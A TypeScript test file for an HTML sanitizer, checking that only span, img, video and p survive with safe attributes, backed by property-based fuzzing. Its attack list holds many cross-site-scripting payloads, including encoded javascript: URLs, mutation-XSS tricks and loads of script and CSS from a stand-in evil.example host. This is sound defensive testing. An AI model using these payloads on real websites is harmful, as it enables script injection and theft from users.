import fc from 'fast-check'
import { expect, test } from 'vitest'
import { faultsOf } from '#testing/rich-text-faults'
import { plainText, richText } from './rich-text.ts'

const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src=https://evil.example/x.js></sCrIpT >',
  '<script>alert(1)',
  '<script/xss src="https://evil.example">x</script>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img src="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">',
  '<img src="java&Tab;script&colon;alert(1)">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img src="https://a.example/x.png" onload="alert(1)" style="position:fixed;inset:0">',
  '<img src="https://a.example/x.png&quot; onerror=&quot;alert(1)">',
  "<img src='https://a.example/\"onerror=alert(1)//'>",
  '<img src=`javascript:alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<img/src="https://a.example/x"/onerror=alert(1)>',
  '<video src="https://a.example/v.mp4" onloadstart=alert(1) poster=javascript:alert(1) autoplay controls>',
  '<video><source onerror="alert(1)"></video>',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="https://evil.example"><button formaction="javascript:alert(1)">x</button></form>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<span style="width: expression(alert(1))">x</span>',
  '<span style="background-color:url(https://evil.example)">x</span>',
  '<span style="color:red;position:fixed;top:0;left:0;width:9999px;height:9999px">x</span>',
  '<span style="col\\6fr:red;b\\61ckground:url(x)">x</span>',
  '<span class="ly-modal ant-modal">x</span>',
  '<p class="x" onclick="alert(1)">x</p>',
  '<p onclick="alert(1)" class=\'"><script>alert(1)</script>\'>x</p>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<body onload=alert(1)><html manifest=x>',
  '<p\u0000><script\u0000>alert(1)</script>',
  '<p/onclick=alert(1)//',
  '<img src="https://user:pass@evil.example/x.png">',
  '<img src="http://a.example/x.png">',
  '<img src="//evil.example/x.png">',
  '<img src="/app/api/file/../../admin">',
]

test.each(attacks)('B-210 B-215 nothing in %s runs, loads or covers the page', (attack) => {
  const clean = richText(attack)
  expect(faultsOf(clean)).toEqual([])
  expect(richText(clean)).toBe(clean)
})

test('B-210 only span, img, video and p stay; other elements are unwrapped to their text', () => {
  expect(richText('<h1>大</h1><p>甲<b>乙</b></p><ul><li>丙</li></ul>')).toBe('大<p>甲乙</p>丙')
})

test('B-211 a span keeps class and style, and only text styles', () => {
  expect(
    richText('<span class="mark" style="color: RED; top: 0; font-weight:bold" id="x" title="y">甲</span>'),
  ).toBe('<span class="mark" style="color: red; font-weight: bold">甲</span>')
  expect(richText('<span style="color: rgb(1, 2, 3)">甲</span>')).toBe(
    '<span style="color: rgb(1, 2, 3)">甲</span>',
  )
})

test('B-212 an image keeps style, address, alt, width and height, from HTTPS addresses and own files', () => {
  expect(
    richText(
      '<img src="https://a.example/x.png?a=1&amp;b=2" alt="图" width="40" height=30 srcset="x" loading=lazy>',
    ),
  ).toBe('<img src="https://a.example/x.png?a=1&amp;b=2" alt="图" width="40" height="30">')
  expect(richText('<img src="/app/api/file/12">')).toBe('<img src="/app/api/file/12">')
})

test('B-213 a video keeps style, address, width, height and controls', () => {
  expect(richText('<video src="https://a.example/v.mp4" width="100%" controls autoplay loop></video>')).toBe(
    '<video src="https://a.example/v.mp4" width="100%" controls=""></video>',
  )
})

test('B-214 a paragraph keeps only its class', () => {
  expect(richText('<p class="lead" style="color:red" align=center>甲</p>')).toBe('<p class="lead">甲</p>')
})

test('B-215 a script is removed with its body, closed or not', () => {
  expect(richText('甲<script>var a = "<p>"</script>乙')).toBe('甲乙')
  expect(richText('甲<script>alert(1) 乙')).toBe('甲')
})

test('text stays text: special characters are escaped once and read back as typed', () => {
  expect(richText('1 < 2 && 3 > 2')).toBe('1 &lt; 2 &amp;&amp; 3 &gt; 2')
  expect(plainText('<p>1 &lt; 2 &amp; 3</p><p>第二行</p>')).toBe('1 < 2 & 3\n第二行')
  expect(plainText('<p> &nbsp; </p><span></span>')).toBe('')
})

test('nested elements are always closed, in the order of a browser', () => {
  expect(richText('<p>甲<span>乙<p>丙</span>')).toBe('<p>甲<span>乙</span></p><p>丙</p>')
  expect(richText('</p></span>甲<span>')).toBe('甲<span></span>')
})

const scraps = fc.constantFrom(
  '<',
  '>',
  '</',
  '/>',
  '"',
  "'",
  '`',
  '=',
  ' ',
  '&',
  ';',
  '<!--',
  '-->',
  '<p',
  '<span',
  '<img',
  '<video',
  '<script',
  '</script>',
  '<style>',
  '</p>',
  '</span>',
  ' src=',
  ' style=',
  ' class=',
  ' onerror=',
  'https://a.example/',
  'javascript:alert(1)',
  '&#106;',
  '&quot;',
  '&lt;',
  'color:red',
  'position:fixed',
  '\n',
  '\t',
  '甲',
  'x',
  '\\',
  'ly-modal',
)

/** Whole tags among the fragments, because random fragments hardly ever form one. */
const attribute = fc
  .tuple(
    fc.constantFrom('src', 'style', 'class', 'alt', 'width', 'onerror'),
    fc.array(scraps, { minLength: 1, maxLength: 3 }),
  )
  .map(([name, value]) => ` ${name}="${value.join('')}"`)
const tag = fc
  .tuple(fc.constantFrom('p', 'span', 'img', 'video', 'b'), fc.array(attribute, { maxLength: 3 }))
  .map(([name, attributes]) => `<${name}${attributes.join('')}>`)

test('B-210 B-215 any markup gives only allowed elements, and cleaning twice changes nothing', () => {
  fc.assert(
    fc.property(fc.array(fc.oneof(scraps, tag, fc.string({ maxLength: 4 })), { maxLength: 25 }), (parts) => {
      const clean = richText(parts.join(''))
      expect(faultsOf(clean)).toEqual([])
      expect(richText(clean)).toBe(clean)
    }),
    { numRuns: 20_000, examples: [[['<img', ' src=', 'https://a.example/', 'position:fixed', '>']]] },
  )
})

test.each([
  ['<p>甲', 'p is never closed'],
  ['<p>甲</span></p>', '</span> closes nothing'],
  ['甲<br>乙', '<br> has no place'],
  ['<p onclick="x">甲</p>', 'p onclick'],
  ['<p class=lead>甲</p>', 'no markup of ours'],
  ['<script>x</script>', '<script> has no place'],
  ['<img src="https://a.example/x" onerror="x">', 'img onerror'],
  ['<img alt="图">', 'img without an address'],
  ['<img src="javascript:alert(1)">', 'img src'],
  ['<img src="java&#x73;cript:alert(1)">', 'img src'],
  ['<img src="https://user:word@a.example/x">', 'img src'],
  ['<video src="data:video/mp4,x"></video>', 'video src'],
  ['<span style="position: fixed">甲</span>', 'style position'],
  ['<span style="color: red; POSITION : fixed">甲</span>', 'style position'],
  ['<span style="color: url(https://a.example)">甲</span>', 'style color'],
  ['<span style="width: expression(alert(1))">甲</span>', 'style width'],
  ['<span style="c\\6flor: red">甲</span>', 'style c\\6flor'],
  ['<span class="mark ly-modal">甲</span>', 'span class'],
] as const)('finds a cleaner that lets %s through', (html, fault) => {
  expect(faultsOf(html).join()).toContain(fault)
})

test('ignores text and addresses that only look like a style', () => {
  expect(faultsOf('<p>position: fixed; javascript:</p>')).toEqual([])
  expect(faultsOf('<img src="https://a.example/position:fixed" alt="url(x) onerror=y">')).toEqual([])
})
